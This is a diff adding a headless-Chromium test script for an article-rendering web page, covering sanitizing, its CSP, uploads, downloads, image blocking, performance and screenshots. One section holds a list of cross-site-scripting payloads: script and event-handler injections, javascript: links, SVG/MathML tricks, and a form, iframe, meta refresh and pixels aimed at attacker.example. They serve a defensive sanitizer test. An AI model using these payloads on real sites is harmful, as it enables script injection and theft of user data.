@@ -1,0 +1,614 @@
+// The page's checks (issue 4, "How it is checked"), in headless Chromium.
+// Usage: node tests/page/check.mjs URL TMPDIR   (run.sh starts the server)
+// Prints one PASS/FAIL line per check, and REPORT lines with measurements.
+import assert from "node:assert/strict";
+import { readFileSync, writeFileSync } from "node:fs";
+import { join } from "node:path";
+import { chromium } from "playwright-core";
+
+const [url, tmp] = process.argv.slice(2);
+const origin = new URL(url).origin;
+const output = new URL("../output/", import.meta.url).pathname;
+
+let failures = 0;
+async function check(name, fn) {
+  try {
+    await fn();
+    console.log(`PASS  ${name}`);
+  } catch (error) {
+    failures += 1;
+    console.log(`FAIL  ${name}: ${String(error?.message ?? error).replace(/\s+/g, " ").slice(0, 600)}`);
+  }
+}
+const report = (text) => console.log(`REPORT ${text}`);
+
+// Debian's chromium, not a Playwright download; flags keep it from calling home.
+const browser = await chromium.launch({
+  executablePath: process.env.CHROMIUM || "/usr/bin/chromium",
+  args: [
+    "--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
+    "--disable-background-networking", "--disable-component-update", "--disable-sync",
+  ],
+});
+
+// Every request to a host other than 127.0.0.1, from any page, frame or worker.
+const external = [];
+async function newContext(options = {}, { watch = true } = {}) {
+  const context = await browser.newContext({ acceptDownloads: true, ...options });
+  if (watch) {
+    context.on("request", (request) => {
+      const u = new URL(request.url());
+      if (/^(https?|wss?):$/.test(u.protocol) && u.hostname !== "127.0.0.1") external.push(request.url());
+    });
+  }
+  return context;
+}
+
+/** Opens the page and collects what it logs. */
+async function openPage(context) {
+  const page = await context.newPage();
+  const log = { errors: [], dialogs: [], navigations: [], wasmTypes: [] };
+  page.on("console", (m) => m.type() === "error" && log.errors.push(`console: ${m.text()} (${m.location().url}:${m.location().lineNumber})`));
+  page.on("pageerror", (e) => log.errors.push(`page: ${e.message}`));
+  page.on("dialog", (d) => {
+    log.dialogs.push(d.message());
+    d.dismiss().catch(() => {});
+  });
+  page.on("framenavigated", (f) => log.navigations.push(f.url()));
+  context.on("response", (r) => r.url().endsWith(".wasm") && log.wasmTypes.push(r.headers()["content-type"]));
+  await page.goto(url);
+  await idle(page);
+  return { page, log };
+}
+
+/** Waits until the worker has rendered and the frame holds the whole body. */
+async function idle(page, timeout = 20_000) {
+  await page.waitForFunction(() => document.body.dataset.rendered && document.body.dataset.state === "idle", null, { timeout });
+  await page.waitForTimeout(50);
+  await page.waitForFunction(() => document.body.dataset.state === "idle", null, { timeout });
+}
+
+const text = (page, selector) => page.locator(selector).first().textContent();
+const frameEval = (page, fn, arg) =>
+  page.evaluate(([source, a]) => new Function("doc", "arg", `return (${source})(doc, arg)`)(document.querySelector("#body-frame").contentDocument, a), [fn.toString(), arg]);
+
+async function waitForTitle(page, title, timeout = 20_000) {
+  await page.waitForFunction((t) => document.querySelector("#title").textContent === t, title, { timeout });
+  await idle(page, timeout);
+}
+
+/** Puts text on the clipboard and pastes it over the editor's content. */
+async function paste(page, source) {
+  await page.evaluate((s) => navigator.clipboard.writeText(s), source);
+  await page.locator("#source").focus();
+  await page.keyboard.press("ControlOrMeta+A");
+  await page.keyboard.press("ControlOrMeta+V");
+}
+
+const SAMPLE_TITLE = "江南市发布公交电动化三年行动方案 2025年底前全部换装新能源车";
+
+// ---------------------------------------------------------------------------
+const context = await newContext({ viewport: { width: 1366, height: 900 }, permissions: ["clipboard-read", "clipboard-write"] });
+const { page, log } = await openPage(context);
+
+await check("the page opens with the sample rendered and no console error", async () => {
+  assert.equal(await text(page, "#title"), SAMPLE_TITLE);
+  assert.deepEqual(log.errors, []);
+});
+
+await check("the sample shows its cover, date (localized, original on hover) and categories", async () => {
+  const cover = await page.evaluate(() => {
+    const img = document.querySelector("#cover img");
+    return img && { src: img.getAttribute("src"), loaded: img.complete && img.naturalWidth > 0, referrer: img.referrerPolicy };
+  });
+  assert.ok(cover?.loaded, `cover: ${JSON.stringify(cover)}`);
+  assert.equal(cover.src, "samples/images/bus-cover.svg");
+  assert.equal(cover.referrer, "no-referrer");
+  const time = await page.evaluate(() => {
+    const t = document.querySelector("#byline time");
+    return { datetime: t.dateTime, title: t.title, text: t.textContent };
+  });
+  assert.equal(time.datetime, "2025-03-18T02:36:15Z");
+  assert.match(time.title, /Tue, 18 Mar 2025 02:36:15 GMT/);
+  assert.match(time.text, /2025/);
+  assert.notEqual(time.text, time.datetime, "the date is localized");
+  const categories = await page.locator("#categories li").allTextContents();
+  assert.deepEqual(categories, ["财经", "城市观察", "城市观察－交通"]);
+  assert.deepEqual(await page.locator("#tags li").allTextContents(), ["新能源", "公共交通", "江南市"]);
+  assert.match(await text(page, "#byline"), /江南日报财经频道/);
+  assert.match(await text(page, "#byline"), /min read/);
+});
+
+await check("the sample's body is in the frame, sanitized, with its local images loaded", async () => {
+  const body = await frameEval(page, (doc) => ({
+    h2: [...doc.querySelectorAll("h2")].map((h) => h.id),
+    styleElements: doc.body.querySelectorAll("style, script").length,
+    images: [...doc.images].map((i) => ({ src: i.getAttribute("src"), ok: i.complete && i.naturalWidth > 0 })),
+    text: doc.body.textContent,
+  }));
+  assert.deepEqual(body.h2, ["user-content-充电网络先行", "user-content-线路与票价保持稳定", "user-content-下一步郊区线路和氢能试点"]);
+  assert.equal(body.styleElements, 0);
+  assert.ok(body.images.length === 2 && body.images.every((i) => i.ok), JSON.stringify(body.images));
+  assert.ok(!body.text.includes("appendQr_wrap"), "the <style> text is gone");
+});
+
+await check("the worker loaded the wasm as application/wasm and the version shows", async () => {
+  assert.deepEqual(log.wasmTypes, ["application/wasm"]);
+  assert.match(await text(page, "#version"), /^v\d+\.\d+\.\d+/);
+});
+
+await check("a strict CSP <meta> without inline script, and Trusted Types enforced", async () => {
+  const csp = await page.getAttribute('meta[http-equiv="Content-Security-Policy"]', "content");
+  for (const directive of ["default-src 'none'", "script-src 'self' 'wasm-unsafe-eval'", "style-src 'self'", "base-uri 'none'", "form-action 'none'", "require-trusted-types-for 'script'"]) {
+    assert.ok(csp.includes(directive), `missing ${directive}`);
+  }
+  assert.ok(!/unsafe-inline|unsafe-eval'/.test(csp.replace("'wasm-unsafe-eval'", "")), "no unsafe-inline or unsafe-eval");
+  const inline = await page.evaluate(() => ({
+    scripts: [...document.scripts].filter((s) => !s.src).length,
+    styled: document.querySelectorAll("[style]:not(#body-frame)").length,
+    handlers: [...document.querySelectorAll("*")].filter((e) => [...e.attributes].some((a) => a.name.startsWith("on"))).length,
+  }));
+  assert.deepEqual(inline, { scripts: 0, styled: 0, handlers: 0 });
+  const sink = await page.evaluate(() => {
+    try {
+      document.createElement("div").innerHTML = "<b>x</b>";
+      return "a plain string reached innerHTML";
+    } catch (error) {
+      return error.name;
+    }
+  });
+  assert.equal(sink, "TypeError", "Trusted Types reject a plain string at an HTML sink");
+  // That refusal is logged as an error on purpose; it is this check's, not the page's.
+  log.errors = log.errors.filter((e) => !e.includes("requires 'TrustedHTML' assignment"));
+});
+
+await check("the body frame is sandboxed without allow-scripts", async () => {
+  const frame = await page.evaluate(() => {
+    const f = document.querySelector("#body-frame");
+    return { sandbox: [...f.sandbox], scripts: f.contentDocument.scripts.length, url: f.contentWindow.location.href };
+  });
+  assert.deepEqual(frame.sandbox, ["allow-same-origin"]);
+  assert.equal(frame.scripts, 0);
+  assert.equal(frame.url, "about:srcdoc");
+});
+
+await check("every control has a label and the option controls are named like the option keys", async () => {
+  const unlabeled = await page.evaluate(() =>
+    [...document.querySelectorAll("input, select, textarea, button")]
+      .filter((el) => !(el.labels?.length || el.getAttribute("aria-label") || el.textContent.trim()))
+      .map((el) => el.outerHTML.slice(0, 80)),
+  );
+  assert.deepEqual(unlabeled, []);
+  for (const name of ["format", "images", "baseUrl"]) assert.equal(await page.locator(`[name="${name}"]`).count(), 1, name);
+});
+
+await check("the keyboard reaches the file picker, the tabs, the editor and the actions", async () => {
+  await page.locator("body").focus();
+  const reached = new Set();
+  for (let i = 0; i < 40; i++) {
+    await page.keyboard.press("Tab");
+    reached.add(await page.evaluate(() => document.activeElement?.id || document.activeElement?.className || document.activeElement?.tagName));
+  }
+  for (const id of ["sample", "file-input", "opt-format", "opt-images", "opt-baseUrl", "source", "tab-preview", "copy-html", "download-html", "download-json"]) {
+    assert.ok(reached.has(id), `Tab never reached #${id} (reached: ${[...reached].join(", ")})`);
+  }
+  // Arrow keys move between the tabs.
+  await page.locator("#tab-preview").focus();
+  await page.keyboard.press("ArrowRight");
+  assert.equal(await page.evaluate(() => document.activeElement.id), "tab-html");
+  assert.equal(await page.isVisible("#panel-html"), true);
+  await page.keyboard.press("ArrowLeft");
+  assert.equal(await page.isVisible("#panel-preview"), true);
+});
+
+await check("TOC links scroll to their headings in the frame", async () => {
+  const links = page.locator("#toc-list a");
+  assert.equal(await links.count(), 3);
+  for (const i of [2, 0]) {
+    await links.nth(i).click();
+    await page.waitForTimeout(900);
+    const offset = await page.evaluate((index) => {
+      const id = document.querySelectorAll("#toc-list a")[index].dataset.target;
+      const frame = document.querySelector("#body-frame");
+      const heading = frame.contentDocument.getElementById(id);
+      const panel = document.querySelector("#panel-preview").getBoundingClientRect();
+      return frame.getBoundingClientRect().top + heading.getBoundingClientRect().top - panel.top;
+    }, i);
+    // The last heading may sit too close to the end to reach the top.
+    const end = await page.evaluate(() => {
+      const panel = document.querySelector("#panel-preview");
+      return panel.scrollHeight - panel.clientHeight - panel.scrollTop < 2;
+    });
+    assert.ok(offset >= 0 && (offset < 60 || (end && offset < 900)), `heading ${i} is ${offset}px from the top of the pane`);
+  }
+});
+
+await check("the HTML, Metadata and Diagnostics views show the result", async () => {
+  await page.click("#tab-html");
+  assert.match(await text(page, "#html-code"), /<h2 id="user-content-充电网络先行">/);
+  await page.click("#tab-meta");
+  const meta = JSON.parse(await text(page, "#meta-code"));
+  assert.equal(meta.meta.title, SAMPLE_TITLE);
+  assert.equal(meta.html, undefined);
+  await page.click("#tab-diagnostics");
+  assert.equal(await text(page, "#diagnostics-count"), "3");
+  assert.equal(await page.locator("#diagnostics-list li").count(), 3);
+});
+
+await check("a diagnostic's line number jumps to that line in the editor", async () => {
+  const button = page.locator('#diagnostics-list button[data-line="61"]');
+  assert.equal(await button.count(), 1, "the removed <style> is reported on line 61");
+  await button.click();
+  const at = await page.evaluate(() => {
+    const ta = document.querySelector("#source");
+    return {
+      focused: document.activeElement === ta,
+      line: ta.value.slice(0, ta.selectionStart).split("\n").length,
+      selected: ta.value.slice(ta.selectionStart, ta.selectionEnd),
+      scrolled: ta.scrollTop,
+    };
+  });
+  assert.ok(at.focused, "the editor has focus");
+  assert.equal(at.line, 61);
+  assert.match(at.selected, /<style>/);
+  assert.ok(at.scrolled > 0, "the editor scrolled to the line");
+  await page.click("#tab-preview");
+});
+
+await check("Copy HTML puts the sanitized HTML on the clipboard", async () => {
+  await page.click("#copy-html");
+  await page.waitForTimeout(200);
+  const copied = await page.evaluate(() => navigator.clipboard.readText());
+  assert.match(copied, /^\s*<div>/);
+  assert.ok(copied.includes('id="user-content-充电网络先行"'));
+});
+
+await check("the download buttons produce a standalone .html (own CSP, escaped <meta>) and the .json", async () => {
+  const [htmlDownload] = await Promise.all([page.waitForEvent("download"), page.click("#download-html")]);
+  assert.equal(htmlDownload.suggestedFilename(), "jiangnan-bus.html");
+  const htmlPath = join(tmp, "download.html");
+  await htmlDownload.saveAs(htmlPath);
+  const html = readFileSync(htmlPath, "utf8");
+  assert.match(html, /<meta http-equiv="Content-Security-Policy" content="default-src &#39;none&#39;; img-src https: http: data:; style-src &#39;sha256-/);
+  assert.ok(html.includes('<meta name="author" content="江南日报财经频道">'));
+  assert.ok(html.includes('<meta property="article:published_time" content="2025-03-18T02:36:15Z">'));
+  assert.ok(html.includes(`<title>${SAMPLE_TITLE}</title>`));
+  assert.ok(!/<script/i.test(html));
+  assert.ok(html.includes('src="samples/images/charging-chart.svg"'), "images are real images in the file");
+
+  const [jsonDownload] = await Promise.all([page.waitForEvent("download"), page.click("#download-json")]);
+  assert.equal(jsonDownload.suggestedFilename(), "jiangnan-bus.json");
+  const jsonPath = join(tmp, "download.json");
+  await jsonDownload.saveAs(jsonPath);
+  const json = JSON.parse(readFileSync(jsonPath, "utf8"));
+  assert.equal(json.meta.title, SAMPLE_TITLE);
+  assert.equal(json.toc.length, 3);
+  assert.match(json.html, /user-content-充电网络先行/);
+
+  // Opened on its own, the file shows the article styled and breaks no rule of its CSP.
+  const viewer = await context.newPage();
+  const errors = [];
+  viewer.on("console", (m) => m.type() === "error" && errors.push(m.text()));
+  await viewer.route(`${origin}/download-check.html`, (route) => route.fulfill({ contentType: "text/html; charset=utf-8", body: html }));
+  await viewer.goto(`${origin}/download-check.html`);
+  await viewer.waitForLoadState("load");
+  const shown = await viewer.evaluate(() => ({
+    title: document.querySelector("h1").textContent,
+    width: document.querySelector("main").getBoundingClientRect().width,
+    font: getComputedStyle(document.body).lineHeight,
+  }));
+  assert.equal(shown.title, SAMPLE_TITLE);
+  await viewer.close();
+  assert.ok(shown.width <= 704 + 1, `the style sheet applies (main is ${shown.width}px wide)`);
+  assert.deepEqual(errors, []);
+});
+
+await check("options: images block/load, baseUrl resolves, a bad baseUrl is reported", async () => {
+  // baseUrl turns the sample's relative images into remote ones: blocked.
+  await page.fill("#opt-baseUrl", "https://images.example/posts/");
+  await page.waitForFunction(() => document.querySelector("#body-frame").contentDocument.querySelector('img[data-src^="https://images.example/"]'));
+  await idle(page);
+  const blocked = await frameEval(page, (doc) => doc.querySelectorAll("img[data-src]:not([src])").length);
+  assert.equal(blocked, 2);
+  assert.equal(await page.isVisible("#images-notice"), true);
+  assert.match(await text(page, "#images-notice-text"), /images\.example/);
+  assert.equal(await page.locator("#cover .cover-blocked").count(), 1, "the remote cover waits too");
+  // An invalid baseUrl is an invalid option: the message shows at the field.
+  await page.fill("#opt-baseUrl", "ftp://nope");
+  await page.waitForFunction(() => document.querySelector("#opt-baseUrl").getAttribute("aria-invalid") === "true");
+  assert.match(await text(page, "#opt-baseUrl-help"), /baseUrl/);
+  await page.fill("#opt-baseUrl", "");
+  await page.waitForFunction(() => document.querySelector("#opt-baseUrl").getAttribute("aria-invalid") === "false");
+  await idle(page);
+  // images: "load" gives plain src attributes.
+  await page.selectOption("#opt-images", "load");
+  await page.waitForFunction(() => !document.querySelector("#body-frame").contentDocument.querySelector("img[data-src]"));
+  await page.selectOption("#opt-images", "block");
+  await page.waitForFunction(() => document.querySelector("#body-frame").contentDocument.querySelector("img[data-src]"));
+  await idle(page);
+  assert.equal(external.length, 0, `blocked images were requested: ${external.join(", ")}`);
+});
+
+await check("pasting an article updates the preview", async () => {
+  const source = "---\ntitle: 粘贴的文章 Pasted article\nauthor: Tester\ndate: 2021/07/19\ntags: [粘贴]\n---\n\n## 第一节\n\n正文 **bold** text.\n";
+  await paste(page, source);
+  await waitForTitle(page, "粘贴的文章 Pasted article");
+  assert.equal(await page.inputValue("#source"), source);
+  assert.equal(await frameEval(page, (doc) => doc.querySelector("strong")?.textContent), "bold");
+  assert.equal(await page.getAttribute("#byline time", "datetime"), "2021-07-19");
+});
+
+const article = (title, body = "Body text.") => `---\ntitle: ${title}\ndate: 2024-01-02\n---\n\n${body}\n`;
+
+await check("uploading one file lists and renders it", async () => {
+  await page.setInputFiles("#file-input", { name: "one.md", mimeType: "text/markdown", buffer: Buffer.from(article("One file")) });
+  await waitForTitle(page, "One file");
+  assert.ok((await page.locator("#file-list .file-name").allTextContents()).includes("one.md"));
+  assert.equal(await page.locator("#file-list [aria-current=true] .file-name").textContent(), "one.md");
+});
+
+await check("uploading three files lists them all and each renders when picked", async () => {
+  const files = ["alpha", "beta", "gamma"].map((n) => ({ name: `${n}.md`, mimeType: "text/markdown", buffer: Buffer.from(article(`Title ${n}`, `# ${n}\n\nText of ${n}.`)) }));
+  files[2] = { name: "gamma.html", mimeType: "text/html", buffer: Buffer.from("<h1>gamma</h1><p>An HTML file <b>without</b> front matter.</p>") };
+  await page.setInputFiles("#file-input", files);
+  await waitForTitle(page, "Title alpha");
+  const names = await page.locator("#file-list .file-name").allTextContents();
+  for (const n of ["one.md", "alpha.md", "beta.md", "gamma.html"]) assert.ok(names.includes(n), `${n} in ${names}`);
+  await page.locator("#file-list .file-open", { hasText: "beta.md" }).click();
+  await waitForTitle(page, "Title beta");
+  await page.locator("#file-list .file-open", { hasText: "gamma.html" }).click();
+  await waitForTitle(page, "gamma.html"); // no title in the file: the name stands in
+  assert.equal(await frameEval(page, (doc) => doc.querySelector("h1")?.textContent), "gamma");
+  await page.locator("#file-list .file-open", { hasText: "alpha.md" }).click();
+  await waitForTitle(page, "Title alpha");
+  assert.match(await page.inputValue("#source"), /Text of alpha/);
+});
+
+await check("a GB18030 file shows the right Chinese title and its encoding", async () => {
+  await page.setInputFiles("#file-input", join(tmp, "gb18030.md"));
+  await waitForTitle(page, "地方财政收入稳步增长 基层保障能力持续提升");
+  assert.match(await text(page, "#encoding"), /GB18030/);
+  assert.match(await page.locator("#file-list [aria-current=true] .file-meta").textContent(), /GB18030/);
+  assert.equal(await frameEval(page, (doc) => doc.querySelector("h1")?.textContent), "正文");
+});
+
+await check("dropping files on the page opens them", async () => {
+  const dataTransfer = await page.evaluateHandle(() => {
+    const dt = new DataTransfer();
+    dt.items.add(new File(["---\ntitle: Dropped file\n---\n\nDropped."], "dropped.md", { type: "text/markdown" }));
+    return dt;
+  });
+  await page.dispatchEvent("#workspace", "dragenter", { dataTransfer });
+  assert.equal(await page.isVisible("#drop-overlay"), true, "the drop overlay shows");
+  await page.dispatchEvent("#workspace", "drop", { dataTransfer });
+  await waitForTitle(page, "Dropped file");
+  assert.equal(await page.isVisible("#drop-overlay"), false);
+});
+
+// ---------------------------------------------------------------------------
+const ATTACKS = [
+  "<script>alert('script')</script>",
+  "<img src=x onerror=\"alert('onerror')\">",
+  "<body onload=\"alert('onload')\"><p onclick=\"alert(1)\" onmouseover=\"alert(2)\">hover me</p>",
+  "<a href=\"javascript:alert('js link')\" id=\"js-link\">javascript: link</a>",
+  "<a href=\"JaVaScRiPt:alert('mixed case')\">mixed case</a> <a href=\"java&#x09;script:alert(1)\">tab</a>",
+  "<a href=\"data:text/html,<script>alert(1)</script>\">data link</a>",
+  "<iframe src=\"https://attacker.example/frame\"></iframe><iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
+  "<form action=\"https://attacker.example/steal\"><input name=q><button>Send</button></form>",
+  "<meta http-equiv=\"refresh\" content=\"0;url=https://attacker.example/\">",
+  "<svg onload=\"alert('svg')\"><script>alert('svg script')</script><a xlink:href=\"javascript:alert(3)\"><text>svg link</text></a></svg>",
+  "<svg><animate attributeName=href to=\"javascript:alert(4)\"/><foreignObject><iframe src=javascript:alert(5)></iframe></foreignObject></svg>",
+  "<math><mtext><table><mglyph><style><img src=x onerror=alert(6)></style></mglyph></table></mtext></math>",
+  "<object data=\"https://attacker.example/x.swf\"></object><embed src=\"https://attacker.example/x\">",
+  "<link rel=stylesheet href=\"https://attacker.example/x.css\"><base href=\"https://attacker.example/\">",
+  "<div style=\"position:fixed;inset:0;background:url(https://attacker.example/bg.png)\">overlay</div>",
+  "<img src=\"https://attacker.example/pixel.png\"> <video src=\"https://attacker.example/v.mp4\" autoplay></video>",
+  "<noscript><p title=\"</noscript><img src=x onerror=alert(7)>\"></noscript>",
+  "<template><script>alert(8)</script></template><details open ontoggle=\"alert(9)\"><summary>x</summary></details>",
+];
+const ATTACK = `---
+title: "<img src=x onerror=alert('title')>Attack article"
+author: "<script>alert('author')</script>"
+cover: "javascript:alert('cover')"
+thumbnail: "data:text/html,<script>alert(1)</script>"
+categories: ["<b onclick=alert(1)>cat</b>"]
+---
+
+## Attacks
+
+${ATTACKS.join("\n\n")}
+
+<p>The end.</p>
+`;
+
+await check("an article full of attacks runs no script, shows no dialog, navigates nowhere, requests no other host", async () => {
+  const before = { url: page.url(), navigations: log.navigations.length, external: external.length };
+  await page.setInputFiles("#file-input", { name: "attack.html", mimeType: "text/html", buffer: Buffer.from(ATTACK) });
+  await waitForTitle(page, "<img src=x onerror=alert('title')>Attack article");
+  await page.waitForTimeout(500);
+  // Click, with the mouse, everything clickable in the frame (the handler bait too).
+  const targets = await frameEval(page, (doc) => doc.body.querySelectorAll("a, summary, p").length);
+  for (let i = 0; i < targets; i++) {
+    const at = await page.evaluate((index) => {
+      const frame = document.querySelector("#body-frame");
+      const target = frame.contentDocument.body.querySelectorAll("a, summary, p")[index];
+      target.scrollIntoView({ block: "center" });
+      const box = target.getBoundingClientRect();
+      const outer = frame.getBoundingClientRect();
+      return { x: outer.x + box.x + Math.min(4, box.width / 2), y: outer.y + box.y + Math.min(4, box.height / 2) };
+    }, i);
+    await page.mouse.click(at.x, at.y);
+  }
+  await page.waitForTimeout(500);
+  const state = await page.evaluate(() => {
+    const f = document.querySelector("#body-frame");
+    const doc = f.contentDocument;
+    return {
+      pwned: window.pwned ?? null,
+      frameUrl: f.contentWindow.location.href,
+      dangerous: doc.body.querySelectorAll("script, iframe, form, input:not([type=checkbox]), meta, object, embed, link, base, svg, math, style, video, [style]").length,
+      handlers: [...doc.querySelectorAll("*")].filter((e) => [...e.attributes].some((a) => a.name.startsWith("on"))).length,
+      hrefs: [...doc.body.querySelectorAll("[href]")].map((a) => a.getAttribute("href")),
+      cover: document.querySelector("#cover").hidden,
+      authorText: document.querySelector("#byline .author")?.textContent,
+      categoryText: document.querySelector("#categories li")?.textContent,
+    };
+  });
+  assert.deepEqual(log.dialogs, [], "no dialog");
+  assert.equal(state.pwned, null);
+  assert.equal(page.url(), before.url, "the page did not navigate");
+  assert.equal(state.frameUrl, "about:srcdoc", "the frame did not navigate");
+  assert.deepEqual(log.navigations.slice(before.navigations), [], "no navigation of any frame");
+  assert.deepEqual(context.pages().map((p) => p.url()), [before.url], "no popup opened");
+  assert.equal(state.dangerous, 0, "no dangerous element reached the frame");
+  assert.equal(state.handlers, 0, "no event handler attribute reached the frame");
+  assert.ok(state.hrefs.every((h) => /^(https?:|#|mailto:)/.test(h)), `hrefs: ${state.hrefs}`);
+  assert.equal(state.cover, true, "the javascript: cover is dropped");
+  assert.equal(state.authorText, "<script>alert('author')</script>", "metadata is text");
+  assert.equal(state.categoryText, "<b onclick=alert(1)>cat</b>");
+  assert.deepEqual(external.slice(before.external), [], "no request to another host");
+  const diagnostics = Number(await text(page, "#diagnostics-count"));
+  assert.ok(diagnostics >= 10, `the removals are reported (${diagnostics} diagnostics)`);
+});
+
+await check("the attack article logged no error in the page (its CSP was never tested by the body)", async () => {
+  assert.deepEqual(log.errors, []);
+});
+await page.close();
+await context.close();
+
+// ---------------------------------------------------------------------------
+await check("a blocked remote image loads only when clicked, and only that one", async () => {
+  const ctx = await newContext({ viewport: { width: 1280, height: 900 } }, { watch: false });
+  const requested = [];
+  // The "remote" host is answered here, so nothing leaves the machine.
+  await ctx.route("https://images.example/**", (route) => {
+    requested.push(route.request().url());
+    route.fulfill({ contentType: "image/svg+xml", body: '<svg xmlns="http://www.w3.org/2000/svg" width="40" height="20"><rect width="40" height="20" fill="teal"/></svg>' });
+  });
+  const { page: p } = await openPage(ctx);
+  const source = "---\ntitle: Remote images\ncover: https://images.example/cover.svg\n---\n\n![one](https://images.example/one.svg)\n\n![two](https://images.example/two.svg)\n";
+  await p.evaluate((s) => {
+    const ta = document.querySelector("#source");
+    ta.value = s;
+    ta.dispatchEvent(new InputEvent("input", { bubbles: true, inputType: "insertFromPaste" }));
+  }, source);
+  await waitForTitle(p, "Remote images");
+  await p.waitForTimeout(300);
+  assert.deepEqual(requested, [], "nothing requested before a click");
+  await p.frameLocator("#body-frame").locator('img[data-src$="one.svg"]').click();
+  await p.waitForFunction(() => document.querySelector("#body-frame").contentDocument.querySelector('img[src$="one.svg"]')?.naturalWidth > 0);
+  assert.deepEqual(requested, ["https://images.example/one.svg"]);
+  // Keyboard: Enter on the focused placeholder loads it too.
+  await p.frameLocator("#body-frame").locator('img[data-src$="two.svg"]').focus();
+  await p.keyboard.press("Enter");
+  await p.waitForFunction(() => document.querySelector("#body-frame").contentDocument.querySelector('img[src$="two.svg"]'));
+  await p.click("#load-images");
+  await p.waitForFunction(() => document.querySelector("#cover img")?.naturalWidth > 0);
+  assert.deepEqual(requested.sort(), ["https://images.example/cover.svg", "https://images.example/one.svg", "https://images.example/two.svg"]);
+  assert.equal(await p.isVisible("#images-notice"), false);
+  await ctx.close();
+});
+
+// ---------------------------------------------------------------------------
+await check("a 5 MB article renders while the editor stays responsive", async () => {
+  const ctx = await newContext({ viewport: { width: 1366, height: 900 } });
+  const { page: p } = await openPage(ctx);
+  const paragraph =
+    "这是一段用于压力测试的中文段落，包含标点符号、数字 2024 和 Latin words mixed in, so that both scripts are measured. " +
+    "The renderer must keep the page responsive while it works through megabytes of text. ";
+  const parts = ["---\ntitle: Five megabytes\ndate: 2024-06-01\n---\n"];
+  let size = 0;
+  for (let i = 0; size < 5 * 1024 * 1024; i++) {
+    const block = (i % 40 === 0 ? `## Section ${i / 40 + 1}\n\n` : "") + `${paragraph.repeat(3)} *${i}*\n\n`;
+    parts.push(block);
+    size += Buffer.byteLength(block);
+  }
+  const big = parts.join("");
+  report(`5 MB article: ${(Buffer.byteLength(big) / 1024 / 1024).toFixed(2)} MB`);
+
+  await p.evaluate(() => {
+    window.__longTasks = [];
+    new PerformanceObserver((list) => {
+      for (const entry of list.getEntries()) window.__longTasks.push({ startTime: entry.startTime, duration: entry.duration });
+    }).observe({ type: "longtask" });
+  });
+  const started = Date.now();
+  // What a paste does: the editor's value changes and an input event fires.
+  await p.evaluate((s) => {
+    const ta = document.querySelector("#source");
+    ta.focus();
+    ta.value = s;
+    ta.setSelectionRange(s.length, s.length);
+    ta.dispatchEvent(new InputEvent("input", { bubbles: true, inputType: "insertFromPaste" }));
+  }, big);
+  const pasted = Date.now() - started;
+  // Type while the worker renders; each key's round trip is its latency.
+  const latencies = [];
+  let laidOut = 0;
+  for (const key of "typing") {
+    const t = Date.now();
+    await p.keyboard.type(key);
+    latencies.push(Date.now() - t);
+    // The first key waits for the editor's own layout of the pasted text.
+    laidOut ||= await p.evaluate(() => performance.now());
+  }
+  await p.waitForFunction(() => document.querySelector("#title").textContent === "Five megabytes", null, { timeout: 120_000 });
+  const firstShown = Date.now() - started;
+  await p.waitForFunction(() => document.querySelector("#source").value.endsWith("typing"));
+  // The typed keys re-render the whole article once more; wait for it.
+  await p.waitForFunction(() => document.querySelector("#body-frame").contentDocument.body.textContent.includes("typing"), null, { timeout: 120_000 });
+  await idle(p, 120_000);
+  const done = Date.now() - started;
+  const result = await p.evaluate((after) => ({
+    longest: Math.max(0, ...window.__longTasks.map((t) => t.duration)),
+    afterLayout: Math.max(0, ...window.__longTasks.filter((t) => t.startTime > after).map((t) => t.duration)),
+    count: window.__longTasks.length,
+    sections: document.querySelector("#body-frame").contentDocument.querySelectorAll("h2").length,
+    toc: document.querySelectorAll("#toc-list li").length,
+  }), laidOut);
+  report(`5 MB: paste ${pasted} ms; first render shown after ${firstShown} ms; settled after ${done} ms`);
+  report(`5 MB: key latency while rendering ${latencies.join(", ")} ms (max ${Math.max(...latencies)} ms)`);
+  report(`5 MB: main thread longest task ${Math.round(result.longest)} ms (${result.count} long tasks over 50 ms)`);
+  report(`5 MB: longest task once the editor had laid out the pasted text (render, frame fill, typing) ${Math.round(result.afterLayout)} ms`);
+  writeFileSync(
+    join(output, "page-5mb.txt"),
+    `longest task ${Math.round(result.longest)} ms\nlongest after the editor's layout ${Math.round(result.afterLayout)} ms\nkey latency ${latencies.join(", ")} ms\n`,
+  );
+  assert.ok(result.sections > 100, `all sections are in the frame (${result.sections})`);
+  assert.equal(result.toc, result.sections);
+  await ctx.close();
+});
+
+// ---------------------------------------------------------------------------
+await check("screenshots: desktop and phone, light and dark, to tests/output/", async () => {
+  for (const [device, viewport] of [["desktop", { width: 1440, height: 900 }], ["phone", { width: 390, height: 844 }]]) {
+    for (const scheme of ["light", "dark"]) {
+      const ctx = await newContext({ viewport, colorScheme: scheme, deviceScaleFactor: device === "phone" ? 2 : 1, isMobile: device === "phone", hasTouch: device === "phone" });
+      const { page: p, log: l } = await openPage(ctx);
+      await p.waitForTimeout(300);
+      await p.screenshot({ path: join(output, `page-${device}-${scheme}.png`) });
+      if (device === "phone") {
+        const overflow = await p.evaluate(() => document.documentElement.scrollWidth - window.innerWidth);
+        assert.ok(overflow <= 0, `the ${scheme} phone page scrolls sideways by ${overflow}px`);
+        await p.click("#show-source");
+        await p.screenshot({ path: join(output, `page-${device}-${scheme}-source.png`) });
+      } else {
+        await p.click("#tab-diagnostics");
+        await p.screenshot({ path: join(output, `page-${device}-${scheme}-diagnostics.png`) });
+      }
+      const background = await p.evaluate(() => getComputedStyle(document.body).backgroundColor);
+      assert.equal(scheme === "dark", /rgb\((\d+)/.exec(background)[1] < 80, `${scheme} background is ${background}`);
+      assert.deepEqual(l.errors, []);
+      await ctx.close();
+    }
+  }
+  report(`screenshots in ${output}`);
+});
+
+await check("no request went to a host other than 127.0.0.1", async () => {
+  assert.deepEqual(external, []);
+});
+
+await browser.close();
+process.exitCode = failures ? 1 : 0;
